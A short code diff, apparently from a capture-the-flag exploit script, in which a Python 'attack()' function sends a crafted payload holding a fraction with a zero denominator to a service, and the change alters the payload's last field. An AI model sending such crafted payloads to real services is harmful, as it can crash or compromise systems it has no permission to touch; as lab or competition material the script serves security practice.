@@ -19,5 +19,5 @@ def send(number, payload):
 
 
 def attack():
-    send(exchange(), b'[[{"!fraction": ["1", "0"]}],[],[1]]')
+    send(exchange(), b'[[{"!fraction": ["1", "0"]}],[],"0100000000000000"]')
     return "true"
